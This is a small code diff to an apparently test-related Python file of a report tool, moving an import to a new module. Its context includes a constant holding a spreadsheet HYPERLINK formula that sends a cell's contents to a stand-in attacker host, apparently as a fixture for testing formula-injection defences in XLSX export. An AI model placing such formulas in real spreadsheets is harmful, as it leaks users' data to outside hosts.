@@ -24,7 +24,8 @@ from sigaudit.aggregate.kpi import summarize
 from sigaudit.cli import main
 from sigaudit.model import Level, Verdict
 from sigaudit.report import ReportContext
-from sigaudit.report.i18n import DELIVERABLE_TEXT, LEVELS, TEXT, VERDICTS
+from sigaudit.report.deliverable_text import DELIVERABLE_TEXT
+from sigaudit.report.i18n import LEVELS, TEXT, VERDICTS
 from sigaudit.report.xlsx import render_xlsx
 
 HOSTILE_PATH = '=HYPERLINK("http://evil.invalid/?leak="&A1,"open me")'
